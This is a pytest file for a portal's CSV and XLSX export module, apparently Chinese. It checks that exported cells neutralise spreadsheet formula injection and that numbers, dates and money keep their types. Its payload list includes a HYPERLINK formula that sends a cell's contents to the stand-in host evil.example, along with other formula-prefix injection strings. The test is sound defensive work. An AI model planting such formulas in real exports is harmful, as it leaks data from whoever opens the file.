"""portal.core.exports: no formula ever reaches a download; numbers and dates keep their type."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from portal.core import exports

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&E2,"点我")', "+1+2", "-3+4", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralises_formula_text(payload):
    assert exports.csv_cell(payload).startswith("'")


def test_csv_formats_numbers_dates_and_money():
    assert exports.csv_cell(Decimal("140131.04")) == "140,131.04"
    assert exports.csv_cell(Decimal("20000")) == "20,000.00"
    assert exports.csv_cell(Decimal("-500")) == "-500.00"  # a reversal stays a number
    assert exports.csv_cell(7) == "7"
    assert exports.csv_cell(datetime.date(2026, 11, 30)) == "2026-11-30"
    assert exports.csv_cell(None) == ""
    assert exports.csv_cell("梅岗社区") == "梅岗社区"


def test_csv_response_is_utf8_with_bom_and_a_chinese_filename():
    response = exports.csv_response("公示.csv", [["名称", "金额"], ["=1+1", Decimal("1234.5")]])
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows == [["名称", "金额"], ["'=1+1", "1,234.50"]]
    assert "filename*=utf-8''" in response["Content-Disposition"].lower()


def _read(response):
    return load_workbook(io.BytesIO(response.content))


def test_xlsx_keeps_text_as_text_and_numbers_as_numbers():
    rows = [["名称", "金额", "日期", "次数"], *[[p, Decimal("20000"), datetime.date(2026, 1, 2), 3] for p in PAYLOADS]]
    sheet = _read(exports.rows_to_xlsx("x.xlsx", "公示", rows)).active
    assert sheet.title == "公示"
    assert [c.value for c in sheet[1]] == ["名称", "金额", "日期", "次数"]
    for row, payload in zip(sheet.iter_rows(min_row=2), PAYLOADS, strict=True):
        name, money, day, count = row
        assert name.data_type == "s" and name.value.strip() == payload.strip()  # XML turns CR into LF
        assert name.quotePrefix  # stays text when edited in Excel
        assert money.data_type == "n" and money.value == 20000 and money.number_format == "#,##0.00"
        assert day.is_date and day.value.date() == datetime.date(2026, 1, 2)
        assert count.value == 3
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_drops_control_characters_excel_refuses():
    sheet = _read(exports.rows_to_xlsx("x.xlsx", "t", [["a"], ["万\x01云"]])).active
    assert sheet["A2"].value == "万云"


def test_append_row_on_an_ordinary_sheet():
    workbook = Workbook()
    sheet = workbook.active
    exports.append_row(sheet, ["姓名", "身份证号"], bold=True)
    exports.append_row(sheet, ["=1+1", "440304199001011234"], text_columns={1})
    assert sheet["A1"].font.bold
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "=1+1" and sheet["A2"].quotePrefix
    assert not sheet["A1"].quotePrefix  # ordinary text keeps the ordinary style
    assert sheet["B2"].number_format == "@"
    saved = _read(exports.xlsx_response("t.xlsx", workbook)).active
    assert saved["A2"].data_type == "s"


def test_write_only_rows_keep_types_whether_passed_bare_or_as_cells():
    workbook = exports.new_workbook()
    sheet = exports.add_sheet(workbook, "t", ["a"])
    exports.append_row(sheet, ["#DIV/0!", datetime.date(2026, 1, 2), 5, None, "梅岗", "13800138000"], text_columns={5})
    cells = list(_read(exports.xlsx_response("t.xlsx", workbook)).active.iter_rows(min_row=2))[0]
    assert (cells[0].data_type, cells[0].value) == ("s", "#DIV/0!")  # text, not an Excel error
    assert cells[1].is_date and cells[1].number_format == exports.DATE_FORMAT
    assert (cells[2].value, cells[3].value, cells[4].value) == (5, None, "梅岗")
    assert cells[5].number_format == "@" and cells[5].value == "13800138000"
